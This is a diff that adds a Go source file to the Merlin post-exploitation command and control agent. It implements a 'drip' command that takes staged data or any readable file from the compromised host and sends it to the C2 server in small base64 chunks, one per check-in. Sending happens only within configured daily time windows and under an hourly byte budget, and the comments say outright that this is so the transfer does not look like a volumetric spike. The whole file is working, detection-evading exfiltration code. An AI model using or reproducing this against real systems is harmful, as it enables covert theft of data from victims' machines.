@@ -0,0 +1,442 @@
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"crypto/rand"
+	"crypto/sha256"
+	"encoding/base64"
+	"encoding/hex"
+	"fmt"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync"
+	"time"
+
+	// Merlin Main
+	"github.com/Ne0nd0g/merlin/pkg/jobs"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/cli"
+	"github.com/Ne0nd0g/merlin-agent/staging"
+)
+
+// defaultDripKB is the size, in kilobytes, of each drip chunk when a chunk size is not provided
+const defaultDripKB = 64
+
+// FileSender returns a file transfer for a held job so it is sent to the server on the agent's next check-in
+type FileSender func(transfer jobs.FileTransfer)
+
+// dripWindow is a daily time window, in minutes after local midnight, that drip transfers are sent in. A window that
+// ends before it starts wraps past midnight
+type dripWindow struct {
+	start int
+	end   int
+}
+
+// dripTransfer is staged data sent to the server one chunk per check-in
+type dripTransfer struct {
+	ID      string
+	Name    string
+	Size    int
+	Created time.Time
+	item    string // item is the staging area ID of the data
+	owned   bool   // owned is true when the drip transfer added the data to the staging area and deletes it when done
+	chunk   int    // chunk is the size of each chunk in bytes
+	next    int    // next is the index of the next chunk to send
+}
+
+// dripRequest is a held drip next job that is answered with one chunk of a drip transfer
+type dripRequest struct {
+	id     string     // id is the drip transfer ID
+	send   FileSender // send returns the chunk as the job's file transfer
+	report Reporter   // report returns an error for the job when the drip transfer is gone
+}
+
+// drip holds the drip transfers, the held jobs that send their chunks in the order they were received, and the
+// schedule they are sent on
+var drip = struct {
+	sync.Mutex
+	transfers []*dripTransfer
+	requests  []dripRequest
+	windows   []dripWindow
+	location  *time.Location // location is the time zone the windows are in
+	budget    int            // budget is the most bytes sent in any hour, 0 is unlimited
+	paused    bool           // paused stops sending until resumed
+	sent      []dripChunk    // sent are the chunks sent in the last hour
+}{location: time.Local}
+
+// dripChunk is when a chunk was sent and its size, used to enforce the hourly budget
+type dripChunk struct {
+	at    time.Time
+	bytes int
+}
+
+// Drip sends staged data, or a file, to the server one small chunk per check-in, only during the configured daily
+// windows and below an hourly byte budget, so the transfer doesn't look like a volumetric spike. Each chunk is the
+// file transfer of its own drip next job; the agent holds the job, and held is true, until a check-in inside a window
+// with budget left sends the chunk, so queuing one drip next job per chunk pauses outside the windows or when the
+// budget is spent and resumes on its own. The chunks are named <name>.<id>.partNNNofNNN with the SHA256 hash of the
+// data returned when the transfer is added
+// drip add <staging id|file path> [chunk KB]
+// drip next <id>
+// drip list
+// drip cancel <id>
+// drip window <HH:MM-HH:MM[,HH:MM-HH:MM...] [UTC|local]|any>
+// drip budget <bytes per hour|0>
+// drip pause
+// drip resume
+func Drip(cmd jobs.Command, send FileSender, report Reporter) (results jobs.Results, held bool) {
+	if cli.Enabled {
+		cli.Message(cli.DEBUG, fmt.Sprintf("entering Drip() with %+v", cmd))
+	}
+	if len(cmd.Args) < 1 {
+		cmd.Args = []string{"list"}
+	}
+
+	switch strings.ToLower(cmd.Args[0]) {
+	case "add":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the drip add command requires a staging area ID or file path"
+			return
+		}
+		chunk := defaultDripKB
+		if len(cmd.Args) > 2 {
+			var err error
+			if chunk, err = strconv.Atoi(cmd.Args[2]); err != nil || chunk < 1 {
+				results.Stderr = fmt.Sprintf("%s is not a valid chunk size in kilobytes", cmd.Args[2])
+				return
+			}
+		}
+		t, err := newDripTransfer(cmd.Args[1], chunk*1024)
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		item, err := staging.Get(t.item)
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		drip.Lock()
+		drip.transfers = append(drip.transfers, t)
+		drip.Unlock()
+		results.Stdout = fmt.Sprintf("Added drip transfer %s for %s (%d bytes) in %d chunks, SHA256 %x\n", t.ID, t.Name, t.Size, t.parts(), sha256.Sum256(item.Data))
+		results.Stdout += fmt.Sprintf("Queue \"drip next %s\" %d times to send the chunks\n", t.ID, t.parts())
+	case "next":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the drip next command requires a drip transfer ID"
+			return
+		}
+		drip.Lock()
+		defer drip.Unlock()
+		t := dripFind(cmd.Args[1])
+		if t == nil {
+			results.Stderr = fmt.Sprintf("%s is not a drip transfer", cmd.Args[1])
+			return
+		}
+		if t.next+dripQueued(t.ID) >= t.parts() {
+			results.Stderr = fmt.Sprintf("all %d chunks of drip transfer %s are sent or queued", t.parts(), t.ID)
+			return
+		}
+		drip.requests = append(drip.requests, dripRequest{id: t.ID, send: send, report: report})
+		return results, true
+	case "list":
+	case "cancel":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the drip cancel command requires a drip transfer ID"
+			return
+		}
+		drip.Lock()
+		t := dripRemove(cmd.Args[1])
+		drip.Unlock()
+		if t == nil {
+			results.Stderr = fmt.Sprintf("%s is not a drip transfer", cmd.Args[1])
+			return
+		}
+		results.Stdout = fmt.Sprintf("Canceled drip transfer %s after %d of %d chunks\n", t.ID, t.next, t.parts())
+	case "window":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the drip window command requires HH:MM-HH:MM windows or any"
+			return
+		}
+		windows, location, err := parseDripWindows(strings.Join(cmd.Args[1:], " "))
+		if err != nil {
+			results.Stderr = err.Error()
+			return
+		}
+		drip.Lock()
+		drip.windows, drip.location = windows, location
+		drip.Unlock()
+	case "budget":
+		if len(cmd.Args) < 2 {
+			results.Stderr = "the drip budget command requires the bytes per hour, 0 is unlimited"
+			return
+		}
+		budget, err := strconv.Atoi(cmd.Args[1])
+		if err != nil || budget < 0 {
+			results.Stderr = fmt.Sprintf("%s is not a valid number of bytes per hour", cmd.Args[1])
+			return
+		}
+		drip.Lock()
+		drip.budget = budget
+		drip.Unlock()
+	case "pause", "resume":
+		drip.Lock()
+		drip.paused = strings.EqualFold(cmd.Args[0], "pause")
+		drip.Unlock()
+	default:
+		results.Stderr = fmt.Sprintf("unknown drip command: %s", cmd.Args[0])
+		return
+	}
+	results.Stdout += dripStatus()
+	return
+}
+
+// newDripTransfer creates a drip transfer for a staging area item or, when the argument is not a staging area ID, a
+// file that is read into the staging area
+func newDripTransfer(source string, chunk int) (*dripTransfer, error) {
+	b := make([]byte, 4)
+	if _, err := rand.Read(b); err != nil {
+		return nil, fmt.Errorf("there was an error generating a drip transfer ID: %s", err)
+	}
+	t := &dripTransfer{ID: hex.EncodeToString(b), Created: time.Now().UTC(), chunk: chunk}
+	if item, err := staging.Get(source); err == nil {
+		t.item, t.Name, t.Size = item.ID, item.Name, item.Size
+		return t, nil
+	}
+	data, err := readFile(source)
+	if err != nil {
+		return nil, fmt.Errorf("%s is not a staging area ID or a readable file: %s", source, err)
+	}
+	if t.item, err = staging.Add(source, data); err != nil {
+		return nil, err
+	}
+	t.Name, t.Size, t.owned = filepath.Base(source), len(data), true
+	return t, nil
+}
+
+// parts returns the number of chunks the transfer is sent in
+func (t *dripTransfer) parts() int {
+	if t.Size == 0 {
+		return 1
+	}
+	return (t.Size + t.chunk - 1) / t.chunk
+}
+
+// parseDripWindows parses comma separated HH:MM-HH:MM daily windows followed by UTC or local, which is the default,
+// for the host's time zone; any removes the windows so drip transfers are sent at any time
+func parseDripWindows(value string) (windows []dripWindow, location *time.Location, err error) {
+	value, location, _ = timeZoneSuffix(value)
+	if strings.EqualFold(value, "any") {
+		return nil, location, nil
+	}
+	for _, w := range strings.FieldsFunc(value, func(r rune) bool { return r == ',' || r == ' ' }) {
+		start, end, ok := strings.Cut(strings.TrimSpace(w), "-")
+		if !ok {
+			return nil, nil, fmt.Errorf("%s is not a HH:MM-HH:MM window", w)
+		}
+		var window dripWindow
+		if window.start, err = parseClock(start); err != nil {
+			return nil, nil, err
+		}
+		if window.end, err = parseClock(end); err != nil {
+			return nil, nil, err
+		}
+		windows = append(windows, window)
+	}
+	return
+}
+
+// parseClock returns the number of minutes after midnight of a HH:MM time
+func parseClock(value string) (int, error) {
+	t, err := time.Parse("15:04", strings.TrimSpace(value))
+	if err != nil {
+		return 0, fmt.Errorf("%s is not a HH:MM time", value)
+	}
+	return t.Hour()*60 + t.Minute(), nil
+}
+
+// open returns true if the time is inside the window
+func (w dripWindow) open(now time.Time) bool {
+	minute := now.Hour()*60 + now.Minute()
+	if w.start <= w.end {
+		return minute >= w.start && minute < w.end
+	}
+	return minute >= w.start || minute < w.end
+}
+
+// String returns the window as HH:MM-HH:MM
+func (w dripWindow) String() string {
+	return fmt.Sprintf("%02d:%02d-%02d:%02d", w.start/60, w.start%60, w.end/60, w.end%60)
+}
+
+// dripOpen returns true if drip transfers can be sent now; the drip lock must be held
+func dripOpen(now time.Time) bool {
+	if drip.paused {
+		return false
+	}
+	if len(drip.windows) == 0 {
+		return true
+	}
+	for _, w := range drip.windows {
+		if w.open(now.In(drip.location)) {
+			return true
+		}
+	}
+	return false
+}
+
+// dripSpent returns the bytes sent in the last hour and forgets older chunks; the drip lock must be held
+func dripSpent(now time.Time) (spent int) {
+	var recent []dripChunk
+	for _, c := range drip.sent {
+		if now.Sub(c.at) < time.Hour {
+			recent = append(recent, c)
+			spent += c.bytes
+		}
+	}
+	drip.sent = recent
+	return
+}
+
+// dripFind returns the drip transfer with the ID, or nil; the drip lock must be held
+func dripFind(id string) *dripTransfer {
+	for _, t := range drip.transfers {
+		if t.ID == id {
+			return t
+		}
+	}
+	return nil
+}
+
+// dripQueued returns the number of held drip next jobs for the drip transfer; the drip lock must be held
+func dripQueued(id string) (queued int) {
+	for _, r := range drip.requests {
+		if r.id == id {
+			queued++
+		}
+	}
+	return
+}
+
+// dripRemove removes the drip transfer and, if it added it, its data from the staging area. Held drip next jobs for
+// the transfer are returned with an error; the drip lock must be held
+func dripRemove(id string) *dripTransfer {
+	for i, t := range drip.transfers {
+		if t.ID != id {
+			continue
+		}
+		drip.transfers = append(drip.transfers[:i], drip.transfers[i+1:]...)
+		if t.owned {
+			_ = staging.Delete(t.item)
+		}
+		var requests []dripRequest
+		for _, r := range drip.requests {
+			if r.id != id {
+				requests = append(requests, r)
+				continue
+			}
+			r.report(jobs.Results{Stderr: fmt.Sprintf("drip transfer %s was removed after %d of %d chunks", t.ID, t.next, t.parts())})
+		}
+		drip.requests = requests
+		return t
+	}
+	return nil
+}
+
+// DripCheckIn answers the first held drip next job with the next chunk of its drip transfer on the check-in that is
+// about to be made, if the current time is inside a window and the chunk fits in the hourly budget. Only one chunk is
+// sent per check-in
+func DripCheckIn() {
+	drip.Lock()
+	defer drip.Unlock()
+	now := time.Now()
+	if len(drip.requests) == 0 || !dripOpen(now) {
+		return
+	}
+	r := drip.requests[0]
+	t := dripFind(r.id)
+	if t == nil {
+		drip.requests = drip.requests[1:]
+		r.report(jobs.Results{Stderr: fmt.Sprintf("%s is not a drip transfer", r.id)})
+		return
+	}
+	item, err := staging.Get(t.item)
+	if err != nil {
+		// The data was deleted from the staging area, such as by the wipe command
+		dripRemove(t.ID)
+		return
+	}
+	start := t.next * t.chunk
+	end := start + t.chunk
+	if end > len(item.Data) {
+		end = len(item.Data)
+	}
+	part := item.Data[start:end]
+	// A chunk larger than the budget is never sent, the budget or chunk size has to be changed
+	if drip.budget > 0 && dripSpent(now)+len(part) > drip.budget {
+		return
+	}
+	drip.requests = drip.requests[1:]
+	r.send(jobs.FileTransfer{
+		FileLocation: fmt.Sprintf("%s.%s.part%03dof%03d", t.Name, t.ID, t.next+1, t.parts()),
+		FileBlob:     base64.StdEncoding.EncodeToString(part),
+		IsDownload:   true,
+	})
+	drip.sent = append(drip.sent, dripChunk{at: now, bytes: len(part)})
+	if t.next++; t.next >= t.parts() {
+		dripRemove(t.ID)
+	}
+}
+
+// dripStatus returns the drip schedule and the progress of each drip transfer
+func dripStatus() string {
+	drip.Lock()
+	defer drip.Unlock()
+	now := time.Now()
+	var windows []string
+	for _, w := range drip.windows {
+		windows = append(windows, w.String())
+	}
+	if len(windows) == 0 {
+		windows = []string{"any"}
+	}
+	state := "sending"
+	if !dripOpen(now) {
+		state = "waiting"
+	}
+	if drip.paused {
+		state = "paused"
+	}
+	budget := "unlimited"
+	if drip.budget > 0 {
+		budget = fmt.Sprintf("%d bytes per hour, %d used", drip.budget, dripSpent(now))
+	}
+	zone := "local"
+	if drip.location == time.UTC {
+		zone = "UTC"
+	}
+	status := fmt.Sprintf("Drip: %s\nWindows: %s %s (now %s %s)\nBudget: %s\n", state, strings.Join(windows, ", "), zone, now.In(drip.location).Format("15:04"), zone, budget)
+	for _, t := range drip.transfers {
+		status += fmt.Sprintf("%s\t%s\t%d bytes\t%d of %d chunks sent, %d queued\n", t.ID, t.Name, t.Size, t.next, t.parts(), dripQueued(t.ID))
+	}
+	return status
+}